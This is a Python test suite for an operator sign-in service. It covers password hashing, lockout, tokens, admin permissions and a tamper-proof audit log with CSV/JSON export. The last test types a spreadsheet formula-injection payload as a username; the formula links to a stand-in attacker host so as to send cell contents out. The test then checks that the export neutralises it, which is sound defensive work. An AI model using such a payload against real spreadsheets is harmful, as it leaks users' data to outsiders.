"""Operators' sign-in, lockout, tokens, administration and the audit trail, on SQLite and
PostgreSQL."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from argon2 import PasswordHasher
from sqlmodel import Session, delete, select, update

from pec_tui.db.models import AuditEvent, Operator, Reseller
from pec_tui.domain.enums import Role
from pec_tui.domain.validation import ValidationError
from pec_tui.services import audit, auth, operators
from pec_tui.services import audit_queries as aq
from pec_tui.services.actor import SYSTEM, AccessDenied
from pec_tui.services.auth import LoginRefused

NOW = datetime(2026, 11, 26, 9, 0, tzinfo=UTC)


@pytest.fixture(autouse=True)
def _fast_hashing(monkeypatch):
    """Cheap argon2 parameters for speed; `test_hash_is_argon2` checks the real ones."""
    monkeypatch.setattr(
        auth, "_hasher", PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
    )


@pytest.fixture
def admin(engine):
    return auth.create_first_admin(engine, "boss", "boss-password", "Big Boss", terminal="hq")


@pytest.fixture
def mario(engine, admin):
    operators.create_operator(engine, admin, "Mario", "password-1", Role.BACK_OFFICE)
    return "mario"


def events(engine, action: str | None = None) -> list[AuditEvent]:
    with Session(engine) as session:
        stmt = select(AuditEvent).order_by(AuditEvent.id)
        if action:
            stmt = stmt.where(AuditEvent.action == action)
        return list(session.exec(stmt).all())


def operator(engine, username: str) -> Operator:
    with Session(engine) as session:
        return session.exec(select(Operator).where(Operator.username == username)).one()


# --- hashing -----------------------------------------------------------------------------


def test_hash_is_argon2_and_never_the_password(monkeypatch):
    monkeypatch.setattr(auth, "_hasher", PasswordHasher())
    hashed = auth.hash_password("correct horse")
    assert hashed.startswith("$argon2id$")
    assert "correct horse" not in hashed
    assert auth.verify_password(hashed, "correct horse")
    assert not auth.verify_password(hashed, "correct horsE")
    assert not auth.verify_password("not a hash", "x")


def test_weak_passwords_and_bad_usernames_are_refused():
    with pytest.raises(ValidationError) as exc:
        auth.check_password("short")
    assert exc.value.field == "password"
    with pytest.raises(ValidationError):
        auth.check_password("gianluca1", "GianLuca1")
    with pytest.raises(ValidationError) as exc:
        auth.check_username("no spaces")
    assert exc.value.field == "username"
    assert auth.check_username("  Mario.Rossi ") == "mario.rossi"


# --- first administrator -----------------------------------------------------------------


def test_first_admin_only_on_an_empty_database(engine):
    assert auth.needs_first_admin(engine)
    actor = auth.create_first_admin(engine, "Boss", "boss-password", terminal="hq")
    assert actor.role is Role.ADMIN and actor.name == "boss" and actor.terminal == "hq"
    assert not auth.needs_first_admin(engine)
    with pytest.raises(AccessDenied):
        auth.create_first_admin(engine, "other", "other-password")
    assert [e.action for e in events(engine)] == ["operator.create", "login"]


# --- login -------------------------------------------------------------------------------


def test_login_ok_is_audited_with_the_terminal(engine, mario):
    actor = auth.authenticate(engine, "MARIO", "password-1", terminal="desk-3", now=NOW)
    assert actor.name == "mario" and actor.role is Role.BACK_OFFICE
    assert actor.operator_id == operator(engine, "mario").id
    assert operator(engine, "mario").last_login_at == NOW
    event = events(engine, "login")[-1]
    assert (event.actor, event.outcome, event.terminal) == ("mario", "ok", "desk-3")
    assert event.operator_id == actor.operator_id


def test_wrong_password_and_unknown_user_fail_alike(engine, mario):
    with pytest.raises(LoginRefused) as wrong:
        auth.authenticate(engine, "mario", "password-2", terminal="desk-3", now=NOW)
    with pytest.raises(LoginRefused) as unknown:
        auth.authenticate(engine, "luigi", "password-1", terminal="desk-3", now=NOW)
    assert wrong.value.message == unknown.value.message
    assert wrong.value.reason == unknown.value.reason == "failed"
    failed = [e for e in events(engine, "login") if e.outcome == "failed"]
    assert [(e.actor, e.terminal) for e in failed] == [("mario", "desk-3"), ("luigi", "desk-3")]
    assert all("password-" not in json.dumps(e.details) for e in events(engine))


def test_five_wrong_passwords_lock_for_fifteen_minutes(engine, mario):
    for attempt in range(1, 5):
        with pytest.raises(LoginRefused) as exc:
            auth.authenticate(engine, "mario", "nope-nope", now=NOW + timedelta(seconds=attempt))
        assert exc.value.reason == "failed"
    with pytest.raises(LoginRefused) as exc:
        auth.authenticate(engine, "mario", "nope-nope", now=NOW + timedelta(seconds=5))
    assert exc.value.reason == "locked"
    assert "15 minutes" in exc.value.message
    locked_until = NOW + timedelta(seconds=5) + auth.LOCKOUT
    assert operator(engine, "mario").locked_until == locked_until

    # The right password does not open a locked account; the minutes left are told.
    with pytest.raises(LoginRefused) as exc:
        auth.authenticate(engine, "mario", "password-1", now=NOW + timedelta(minutes=10))
    assert exc.value.reason == "locked" and "6 minutes" in exc.value.message
    assert events(engine, "login")[-1].outcome == "locked"

    actor = auth.authenticate(engine, "mario", "password-1", now=locked_until)
    assert actor.name == "mario"
    row = operator(engine, "mario")
    assert row.locked_until is None and row.failed_logins == 0
    outcomes = [e.outcome for e in events(engine, "login") if e.actor == "mario"]
    assert outcomes == ["failed"] * 5 + ["locked", "ok"]


def test_a_success_resets_the_failure_count(engine, mario):
    for _ in range(4):
        with pytest.raises(LoginRefused):
            auth.authenticate(engine, "mario", "nope-nope", now=NOW)
    auth.authenticate(engine, "mario", "password-1", now=NOW)
    with pytest.raises(LoginRefused) as exc:
        auth.authenticate(engine, "mario", "nope-nope", now=NOW)
    assert exc.value.reason == "failed"


def test_disabled_account_is_refused(engine, admin, mario):
    assert operators.disable_operator(engine, admin, "mario")
    with pytest.raises(LoginRefused) as exc:
        auth.authenticate(engine, "mario", "password-1", now=NOW)
    assert exc.value.reason == "disabled"
    assert events(engine, "login")[-1].outcome == "failed"
    assert operators.enable_operator(engine, admin, "mario")
    assert auth.authenticate(engine, "mario", "password-1", now=NOW).name == "mario"


def test_reauthenticate_unlocks_only_for_the_same_operator(engine, mario):
    actor = auth.authenticate(engine, "mario", "password-1", terminal="desk-3")
    again = auth.reauthenticate(engine, actor, "password-1")
    assert again.operator_id == actor.operator_id
    with pytest.raises(LoginRefused):
        auth.reauthenticate(engine, actor, "boss-password")
    assert [e.outcome for e in events(engine, "unlock")] == ["ok", "failed"]


# --- tokens ------------------------------------------------------------------------------


def test_token_is_shown_once_and_stored_hashed(engine, admin, mario):
    token = auth.issue_token(engine, admin, "mario")
    assert token.startswith(auth.TOKEN_PREFIX) and len(token) > 40
    stored = operator(engine, "mario").token_hash
    assert stored and token not in stored
    actor = auth.authenticate_token(engine, token, terminal="cron")
    assert actor.name == "mario" and actor.terminal == "cron"
    assert events(engine, "login")[-1].details == {"method": "token"}
    assert token not in json.dumps([e.details for e in events(engine)])

    newer = auth.issue_token(engine, admin, "mario")
    with pytest.raises(LoginRefused):
        auth.authenticate_token(engine, token)
    assert auth.authenticate_token(engine, newer).name == "mario"
    assert auth.revoke_token(engine, admin, "mario")
    with pytest.raises(LoginRefused):
        auth.authenticate_token(engine, newer)
    assert events(engine, "login")[-1].outcome == "failed"


def test_token_of_a_disabled_operator_dies_for_good(engine, admin, mario):
    token = auth.issue_token(engine, admin, "mario")
    operators.disable_operator(engine, admin, "mario")
    with pytest.raises(LoginRefused):
        auth.authenticate_token(engine, token)
    operators.enable_operator(engine, admin, "mario")
    with pytest.raises(LoginRefused):
        auth.authenticate_token(engine, token)


def test_a_new_password_ends_the_token(engine, admin, mario):
    token = auth.issue_token(engine, admin, "mario")
    assert auth.authenticate_token(engine, token).name == "mario"
    operators.change_password(engine, admin, "mario", "password-2-new")
    with pytest.raises(LoginRefused):
        auth.authenticate_token(engine, token)
    assert events(engine, "operator.password")[-1].details["changed"] == [
        "password",
        "token revoked",
    ]


def test_a_token_expires(engine, admin, mario):
    token = auth.issue_token(engine, admin, "mario", now=NOW, days=30)
    assert auth.authenticate_token(engine, token, now=NOW + timedelta(days=29)).name == "mario"
    with pytest.raises(LoginRefused) as exc:
        auth.authenticate_token(engine, token, now=NOW + timedelta(days=30))
    assert exc.value.reason == "expired"
    with pytest.raises(ValidationError):
        auth.issue_token(engine, admin, "mario", days=0)


def test_the_system_token_is_issued_by_an_administrator_only(engine, admin, mario):
    back_office = auth.authenticate(engine, "mario", "password-1")
    with pytest.raises(AccessDenied):
        auth.issue_system_token(engine, back_office)
    token = auth.issue_system_token(engine, admin)
    system = auth.authenticate_token(engine, token)
    assert (system.name, system.role, system.is_admin) == ("system", Role.ADMIN, True)
    with Session(engine) as session:
        stored = session.exec(select(Operator).where(Operator.username == "system")).one()
    assert stored.token_hash != token and token not in stored.token_hash
    assert auth.issue_system_token(engine, admin) != token  # a new one replaces it
    with pytest.raises(LoginRefused):
        auth.authenticate_token(engine, token)


def test_operators_issue_tokens_for_themselves_only(engine, admin, mario):
    actor = auth.authenticate(engine, "mario", "password-1")
    assert auth.authenticate_token(engine, auth.issue_token(engine, actor, "mario")).name == "mario"
    with pytest.raises(AccessDenied):
        auth.issue_token(engine, actor, "boss")
    denied = events(engine, "operator.token")[-1]
    assert (denied.actor, denied.outcome) == ("mario", "denied")


# --- administration ----------------------------------------------------------------------


def test_create_operator_is_audited_without_the_password(engine, admin):
    with Session(engine) as session:
        reseller = Reseller(name="Rivendita Nord")
        session.add(reseller)
        session.commit()
        reseller_id = reseller.id
    row = operators.create_operator(
        engine, admin, "nord1", "nord-password", Role.RESELLER, reseller_id, "Anna Nord"
    )
    assert (row.role, row.reseller_id, row.reseller_name) == (
        Role.RESELLER,
        reseller_id,
        "Rivendita Nord",
    )
    event = events(engine, "operator.create")[-1]
    assert event.details == {
        "username": "nord1",
        "role": "rivenditore",
        "reseller_id": reseller_id,
        "full_name": "Anna Nord",
    }
    actor = auth.authenticate(engine, "nord1", "nord-password")
    assert actor.reseller_id == reseller_id


def test_create_operator_checks_its_data(engine, admin, mario):
    with pytest.raises(ValidationError) as exc:
        operators.create_operator(engine, admin, "mario", "password-9", Role.BACK_OFFICE)
    assert exc.value.field == "username"
    with pytest.raises(ValidationError) as exc:
        operators.create_operator(engine, admin, "r1", "password-9", Role.RESELLER)
    assert exc.value.field == "reseller_id"
    with pytest.raises(ValidationError) as exc:
        operators.create_operator(engine, admin, "r1", "password-9", Role.RESELLER, 999)
    assert exc.value.field == "reseller_id"
    with pytest.raises(ValidationError):
        operators.create_operator(engine, admin, "b1", "password-9", Role.BACK_OFFICE, 1)


def test_only_admins_manage_operators_and_refusals_are_audited(engine, admin, mario):
    actor = auth.authenticate(engine, "mario", "password-1", terminal="desk-3")
    attempts = [
        lambda: operators.create_operator(engine, actor, "x1", "password-9", Role.ADMIN),
        lambda: operators.disable_operator(engine, actor, "boss"),
        lambda: operators.enable_operator(engine, actor, "boss"),
        lambda: operators.change_password(engine, actor, "boss", "new-password"),
        lambda: operators.list_operators(engine, actor),
        lambda: aq.page(engine, actor, aq.AuditFilter()),
        lambda: aq.iter_events(engine, actor, aq.AuditFilter()),
    ]
    for attempt in attempts:
        with pytest.raises(AccessDenied):
            attempt()
    denied = [e for e in events(engine) if e.outcome == "denied"]
    assert [e.action for e in denied] == [
        "operator.create",
        "operator.disable",
        "operator.enable",
        "operator.password",
        "operator.list",
        "audit.read",
        "audit.export",
    ]
    assert all(e.actor == "mario" and e.terminal == "desk-3" for e in denied)
    assert operator(engine, "boss").disabled is False


def test_change_password_by_self_and_admin_reset_clears_the_lock(engine, admin, mario):
    actor = auth.authenticate(engine, "mario", "password-1")
    operators.change_password(engine, actor, "mario", "password-2")
    assert auth.authenticate(engine, "mario", "password-2").name == "mario"
    for _ in range(5):
        with pytest.raises(LoginRefused):
            auth.authenticate(engine, "mario", "wrong-one", now=NOW)
    operators.change_password(engine, admin, "mario", "password-3")
    assert auth.authenticate(engine, "mario", "password-3", now=NOW).name == "mario"
    changes = [e.details for e in events(engine, "operator.password")]
    assert changes == [
        {"username": "mario", "changed": ["password"]},
        {"username": "mario", "changed": ["password", "lockout cleared"]},
    ]
    assert "password-3" not in json.dumps(changes)


def test_the_last_admin_and_oneself_cannot_be_disabled(engine, admin, mario):
    with pytest.raises(AccessDenied):
        operators.disable_operator(engine, admin, "boss")
    operators.create_operator(engine, admin, "boss2", "boss2-password", Role.ADMIN)
    boss2 = auth.authenticate(engine, "boss2", "boss2-password")
    assert operators.disable_operator(engine, boss2, "boss")
    assert not operators.disable_operator(engine, boss2, "boss")  # already
    listed = {row.username: row.disabled for row in operators.list_operators(engine, boss2)}
    assert listed == {"boss": True, "boss2": False, "mario": False}


# --- the audit trail ---------------------------------------------------------------------


def test_audit_events_cannot_be_changed_or_deleted(engine, admin):
    with Session(engine) as session:
        event = session.exec(select(AuditEvent)).first()
        event.outcome = "ok-ish"
        session.add(event)
        with pytest.raises(audit.AuditTampering):
            session.commit()
    with Session(engine) as session:
        session.delete(session.exec(select(AuditEvent)).first())
        with pytest.raises(audit.AuditTampering):
            session.commit()
    for statement in (update(AuditEvent).values(actor="nobody"), delete(AuditEvent)):
        with Session(engine) as session, pytest.raises(audit.AuditTampering):
            session.exec(statement)
        with engine.begin() as connection, pytest.raises(audit.AuditTampering):
            connection.execute(statement)
    assert [e.actor for e in events(engine)] == ["boss", "boss"]


def test_audit_pages_newest_first_by_keyset_with_filters(engine, admin):
    with Session(engine) as session:
        for i in range(120):
            audit.record(session, SYSTEM.on_terminal("t"), "job.tick" if i % 2 else "job.tock")
        session.commit()
    flt = aq.AuditFilter(action="job")
    assert aq.count(engine, admin, flt) == 120
    first = aq.page(engine, admin, flt)
    second = aq.page(engine, admin, flt, before_id=first[-1].id)
    third = aq.page(engine, admin, flt, before_id=second[-1].id)
    assert [len(p) for p in (first, second, third)] == [50, 50, 20]
    ids = [r.id for r in first + second + third]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == 120
    assert aq.page(engine, admin, flt, after_id=second[0].id) == first
    assert aq.count(engine, admin, aq.AuditFilter(action="job.tick")) == 60
    assert aq.count(engine, admin, aq.AuditFilter(action="jo")) == 0  # whole words only
    assert aq.count(engine, admin, aq.AuditFilter(actor="BOSS")) == 2
    assert aq.count(engine, admin, aq.AuditFilter(outcome="denied")) == 0
    later = datetime.now(UTC) + timedelta(hours=1)
    assert aq.count(engine, admin, aq.AuditFilter(since=later)) == 0
    assert aq.count(engine, admin, aq.AuditFilter(until=later)) == 122
    assert "job.tick" in aq.actions(engine, admin)


def test_audit_export_streams_csv_and_json(engine, admin, mario):
    flt = aq.AuditFilter(action="operator")
    out = io.StringIO()
    assert aq.write_csv(aq.iter_events(engine, admin, flt, batch=1), out) == 2
    lines = out.getvalue().splitlines()
    assert lines[0].split(",")[:3] == ["id", "at", "actor"]
    assert len(lines) == 3 and "operator.create" in lines[2]
    out = io.StringIO()
    assert aq.write_json(aq.iter_events(engine, admin, flt), out) == 2
    data = json.loads(out.getvalue())
    assert [d["details"]["username"] for d in data] == ["boss", "mario"]
    out = io.StringIO()
    assert aq.write_json(aq.iter_events(engine, admin, aq.AuditFilter(actor="zz")), out) == 0
    assert json.loads(out.getvalue()) == []


def test_a_deliberate_wipe_of_the_whole_database_may_delete_the_trail(engine, admin):
    with engine.begin() as connection:
        with audit.wiping_database(connection):
            connection.execute(delete(AuditEvent))
        with pytest.raises(audit.AuditTampering):  # only inside the block
            connection.execute(delete(AuditEvent))
    assert events(engine) == []
    # Deleting yes, rewriting never.
    with (
        engine.begin() as connection,
        audit.wiping_database(connection),
        pytest.raises(audit.AuditTampering),
    ):
        connection.execute(update(AuditEvent).values(actor="x"))


def test_audit_export_defuses_a_formula_typed_as_username(engine, admin):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with pytest.raises(LoginRefused):
        auth.authenticate(engine, formula, "whatever")
    out = io.StringIO()
    aq.write_csv(aq.iter_events(engine, admin, aq.AuditFilter(outcome="failed")), out)
    import csv

    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["actor"].startswith("'=") and row["actor"][1:].lower() == formula.lower()
